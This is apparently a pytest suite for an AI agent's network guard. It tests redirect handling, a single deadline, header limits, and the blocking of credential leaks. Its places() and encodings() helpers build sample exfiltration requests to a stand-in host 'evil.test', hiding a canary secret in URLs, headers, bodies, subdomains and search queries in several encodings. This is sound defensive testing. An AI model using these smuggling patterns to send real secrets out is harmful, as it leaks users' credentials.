"""What a request may carry and how long it may take: redirects across origins, one deadline,
header bounds, and credential values in any part and any spelling, against real local servers."""

from __future__ import annotations

import base64
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from agent.net.client import request
from agent.net.guard import FetchFailed, NetRefused
from agent.safety.redaction import SecretFinder
from agent.safety.workspace import Workspace
from agent.services import RunServices
from agent.tools.gate import call_tool
from tests.netfixtures import Answer, TestNet, Web

VALUE = "s3cret-canary-value"


@pytest.fixture
def site() -> Iterator[Web]:
    server = Web({"/": Answer(200, "hello"), "/echo": lambda seen: Answer(200, seen.body or b"empty")})
    yield server
    server.close()


@pytest.fixture
def other() -> Iterator[Web]:
    server = Web({"/land": lambda seen: Answer(200, f"{seen.method} {seen.body!r}")})
    yield server
    server.close()


@pytest.mark.parametrize("status", [307, 308])
def test_a_307_or_308_to_another_origin_never_resends_the_body(status: int, site: Web, other: Web) -> None:
    net = TestNet()
    net.host("site.test", site)
    net.host("other.test", other)
    site.routes["/go"] = Answer(status, headers={"location": "http://other.test/land"})
    with pytest.raises(NetRefused) as refused:
        request(net.guard(), "POST", "http://site.test/go", body=b"the private form")
    assert str(refused.value) == (
        f"refused the {status} redirect from http://site.test/go to http://other.test/land: "
        "it would resend the POST and its body to another origin"
    )
    assert other.seen == []
    site.routes["/same"] = Answer(status, headers={"location": "/echo"})  # the same origin keeps both
    assert request(net.guard(), "POST", "http://site.test/same", body=b"kept").body == b"kept"


def test_each_header_dropped_at_a_cross_origin_redirect_is_recorded(site: Web, other: Web) -> None:
    net = TestNet()
    net.host("site.test", site)
    net.host("other.test", other)
    site.routes["/go"] = Answer(302, headers={"location": "http://other.test/land"})
    kept: list[tuple[str, dict[str, Any]]] = []
    guard = net.guard(record=lambda kind, detail: kept.append((kind, detail)))
    headers = {"Authorization": "Bearer x", "Cookie": "a=b", "Proxy-Authorization": "Basic y", "X-Plain": "1"}
    assert request(guard, "GET", "http://site.test/go", headers=headers).status == 200
    assert set(other.seen[0].headers) >= {"x-plain"} and "cookie" not in other.seen[0].headers
    assert [(k, d["header"], d["verdict"]) for k, d in kept] == [
        ("redirect", "Authorization", "dropped"),
        ("redirect", "Cookie", "dropped"),
        ("redirect", "Proxy-Authorization", "dropped"),
    ]
    assert kept[0][1]["target"] == "http://other.test/land"


class Trickle:
    """A server that answers a status line, then one more header line every 50 ms, forever."""

    def __init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.stop = threading.Event()
        self.connected = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        conn, _ = self.listener.accept()
        self.connected.set()
        conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\n")
        n = 0
        while not self.stop.is_set():
            try:
                conn.sendall(f"X-More-{n}: y\r\n".encode())
            except OSError:
                break
            n += 1
            time.sleep(0.05)
        conn.close()

    def close(self) -> None:
        self.stop.set()
        self.listener.close()


def test_a_server_that_sends_headers_forever_is_cut_off_at_the_one_deadline() -> None:
    trickle = Trickle()
    net = TestNet()
    net.host("slow.test", trickle)  # type: ignore[arg-type]  # the connector needs only .port
    try:
        with pytest.raises(FetchFailed) as failed:
            request(net.guard(), "GET", "http://slow.test/", timeout_s=1)
    finally:
        trickle.close()
    assert trickle.connected.is_set()
    assert str(failed.value) == "http://slow.test/ timed out after 1s"


def test_outgoing_headers_are_bounded_in_count_and_size(site: Web) -> None:
    net = TestNet()
    net.host("site.test", site)
    cases = [
        ({f"X-{n}": "v" for n in range(10_000)}, "10000 request headers, over the limit of 64"),
        ({"X-Big": "v" * 1_000_000}, "header 'X-Big' is 1000005 characters, over the limit of 8192"),
        ({f"X-{n}": "v" * 8000 for n in range(5)}, "the request headers are 40015 characters, over the limit of 32768"),
    ]
    for headers, reason in cases:
        with pytest.raises(NetRefused) as refused:
            request(net.guard(), "GET", "http://site.test/", headers=headers)
        assert str(refused.value) == f"refused: {reason}; nothing was sent"
    assert site.seen == []


def encodings() -> dict[str, str]:
    data = VALUE.encode()
    return {
        "raw": VALUE,
        "base64": base64.b64encode(data).decode(),
        "base64url": base64.urlsafe_b64encode(b"xx" + data).decode(),  # inside a longer blob
        "hex": data.hex(),
        "percent": "".join(f"%{b:02x}" for b in data),
    }


def places(encoded: str) -> dict[str, dict[str, Any]]:
    quoted = quote(encoded, safe="")
    return {
        "path": {"url": f"http://evil.test/{quoted}"},
        "query": {"url": f"http://evil.test/?q={quoted}"},
        "subdomain": {"url": f"http://{encoded}.evil.test/"},
        "userinfo": {"url": f"http://{quoted}@evil.test/"},
        "header": {"url": "http://evil.test/", "headers": {"X-Data": encoded}},
        "body": {"url": "http://evil.test/", "method": "POST", "body": f"data={encoded}"},
    }


def guarded(tmp_path: Path, net: TestNet) -> Workspace:
    (tmp_path / "ws").mkdir(exist_ok=True)
    finder = SecretFinder([("TOKEN", VALUE, ["api.bound.test"])])
    return Workspace(tmp_path / "ws", services=RunServices(net=net.guard(secrets=finder)))


@pytest.mark.parametrize("encoding", sorted(encodings()))
@pytest.mark.parametrize("place", ["path", "query", "subdomain", "userinfo", "header", "body"])
def test_a_credential_value_never_leaves_toward_a_host_it_is_not_bound_to(
    tmp_path: Path, site: Web, place: str, encoding: str
) -> None:
    net = TestNet()
    net.host("evil.test", site)
    args = places(encodings()[encoding])[place]
    with guarded(tmp_path, net) as ws:
        result = call_tool("http_request", args, ws, mode="bypass")
    assert not result.ok and site.seen == [] and net.connections == []
    assert "credential 'TOKEN'" in result.output and "which may be sent only to api.bound.test" in result.output
    assert VALUE not in result.output and encodings()[encoding] not in result.output


def test_a_search_query_or_a_fetched_url_carrying_a_value_is_refused_before_anything_is_sent(
    tmp_path: Path, site: Web
) -> None:
    asked: list[str] = []

    class Backend:
        def text(self, query: str, **options: Any) -> list[dict[str, str]]:
            asked.append(query)
            return []

    net = TestNet()
    net.host("evil.test", site)
    with guarded(tmp_path, net) as ws:
        ws.services.search_backend = Backend()
        searched = call_tool("web_search", {"query": f"weather {encodings()['hex']}"}, ws, mode="bypass")
        fetched = call_tool("web_fetch", {"url": f"http://evil.test/?k={encodings()['base64']}"}, ws, mode="bypass")
        plain = call_tool("web_search", {"query": "weather tomorrow"}, ws, mode="bypass")
    assert not searched.ok and "search query carries the value of credential 'TOKEN' (hex)" in searched.output
    assert not fetched.ok and "URL carries the value of credential 'TOKEN' (base64)" in fetched.output
    assert asked == ["weather tomorrow"] and plain.ok and site.seen == []


def test_the_bound_host_still_receives_the_value(tmp_path: Path, site: Web) -> None:
    net = TestNet()
    net.host("api.bound.test", site)
    with guarded(tmp_path, net) as ws:
        result = call_tool(
            "http_request", {"url": "http://api.bound.test/echo", "method": "POST", "body": VALUE}, ws, mode="bypass"
        )
    assert result.ok and site.seen[0].body == VALUE.encode()
